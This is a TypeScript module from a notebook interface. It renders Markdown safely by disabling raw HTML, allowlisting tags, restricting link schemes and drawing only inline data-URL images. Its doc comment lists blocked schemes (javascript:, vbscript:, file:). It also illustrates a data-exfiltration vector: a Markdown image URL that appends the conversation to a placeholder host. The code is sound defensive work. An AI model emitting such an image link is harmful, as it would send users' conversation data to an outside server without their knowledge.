/**
 * Markdown drawn safely: the cell output's rule (durable_nb.notebook.render.markdown_html), in the page.
 *
 * The same parser and options as the cell output: markdown-it's CommonMark preset with tables and
 * strikethrough, **html disabled** (raw HTML in a reply stays text), no linkify; markdown-it refuses
 * `javascript:` / `vbscript:` / `file:` links and `data:` ones but images. And the same image rule: an
 * image is drawn only from an inline `data:image/(png|jpeg|gif|webp)` URL; any other becomes a link
 * `[image: alt] (url)` that loads nothing until clicked (a Markdown image is fetched with no click, so
 * `![x](https://host/p.png?d=<conversation>)` would send the conversation away).
 *
 * The page's own invariant holds too: nothing goes through innerHTML. markdownNodes() turns
 * markdown-it's tokens into plain nodes of an allowed set of tags and attributes; renderMarkdown()
 * builds them with createElement and textContent. Links open in a new tab and only with an
 * http(s)/mailto or relative address. Cost: one parse, O(len(text)).
 */
import markdownit, { type MarkdownIt, type Token } from "markdown-it";
import { h } from "./dom";

/** An element (an allowed tag, its allowed attributes, its children) or text. */
export type MdNode = string | { tag: string; attrs: Record<string, string>; children: MdNode[] };

/** Images drawn inline: data URLs of these types only (render.py's INLINE_IMAGE). */
export const INLINE_IMAGE = /^data:image\/(?:png|jpeg|gif|webp);/i;
const SAFE_HREF = /^(?:https?:|mailto:|[^:]*$)/i; // http(s), mail, or an address with no scheme
const TAGS = new Set([
  ..."p h1 h2 h3 h4 h5 h6 blockquote ul ol li em strong s code pre a hr br table thead tbody tr th td".split(" "),
]);

let parser: MarkdownIt | null = null;
function md(): MarkdownIt {
  if (!parser) parser = markdownit("commonmark", { html: false, linkify: false }).enable(["table", "strikethrough"]);
  return parser;
}

type Tok = Token;

/** An attribute of a token as a string ("" when absent). */
const attr = (t: Tok, name: string): string => String(t.attrGet(name) ?? "");

function attrsOf(t: Tok): Record<string, string> {
  const out: Record<string, string> = {};
  if (t.tag === "a") {
    const href = attr(t, "href");
    if (SAFE_HREF.test(href)) out.href = href;
    const title = attr(t, "title");
    if (title) out.title = title;
  } else if (t.tag === "ol") {
    const start = attr(t, "start");
    if (start && /^\d+$/.test(start)) out.start = start;
  } else if (t.tag === "th" || t.tag === "td") {
    const align = /text-align:(left|right|center)/.exec(attr(t, "style"));
    if (align) out.class = `dnb-md-${align[1]}`;
  }
  return out;
}

function image(t: Tok): MdNode {
  const src = attr(t, "src");
  const alt = (t.children || []).map((c: Tok) => c.content).join("") || t.content || "image";
  if (INLINE_IMAGE.test(src)) return { tag: "img", attrs: { src, alt }, children: [] };
  return { tag: "a", attrs: { href: SAFE_HREF.test(src) ? src : "", class: "dnb-remote-image", title: `image not loaded: ${src}` }, children: [`[image: ${alt}] (${src})`] };
}

/** Append the nodes of `tokens` to `into` (a stack of open elements: opening/closing tokens nest). */
function walk(tokens: Tok[], into: MdNode[]): void {
  const stack: MdNode[][] = [into];
  const top = () => stack[stack.length - 1];
  for (const t of tokens) {
    if (t.nesting === 1) {
      if (TAGS.has(t.tag)) {
        const el = { tag: t.tag, attrs: attrsOf(t), children: [] as MdNode[] };
        top().push(el);
        stack.push(el.children);
      } else stack.push(top()); // not an allowed tag: its children only
    } else if (t.nesting === -1) {
      if (stack.length > 1) stack.pop();
    } else if (t.type === "inline") walk(t.children || [], top());
    else if (t.type === "text" || t.type === "html_inline" || t.type === "html_block") top().push(t.content);
    else if (t.type === "code_inline") top().push({ tag: "code", attrs: {}, children: [t.content] });
    else if (t.type === "fence" || t.type === "code_block") {
      top().push({ tag: "pre", attrs: {}, children: [{ tag: "code", attrs: {}, children: [t.content.replace(/\n$/, "")] }] });
    } else if (t.type === "softbreak") top().push("\n");
    else if (t.type === "hardbreak") top().push({ tag: "br", attrs: {}, children: [] });
    else if (t.type === "hr") top().push({ tag: "hr", attrs: {}, children: [] });
    else if (t.type === "image") top().push(image(t));
    else if (t.content) top().push(t.content);
  }
}

/** Return the safe nodes of Markdown `text` (see the module doc). O(len(text)). */
export function markdownNodes(text: string): MdNode[] {
  const out: MdNode[] = [];
  walk(md().parse(text || "", {}), out);
  return out;
}

function build(n: MdNode): Node {
  if (typeof n === "string") return document.createTextNode(n);
  const el = document.createElement(n.tag);
  for (const [k, v] of Object.entries(n.attrs)) if (v) el.setAttribute(k, v);
  if (n.tag === "a") {
    el.setAttribute("target", "_blank");
    el.setAttribute("rel", "noopener noreferrer nofollow");
  }
  for (const c of n.children) el.append(build(c));
  return el;
}

/** Return Markdown `text` drawn as a `div.dnb-md` (createElement and textContent only). O(len(text)). */
export function renderMarkdown(text: string): HTMLElement {
  const box = h("div", "dnb-md");
  for (const n of markdownNodes(text)) box.append(build(n));
  return box;
}
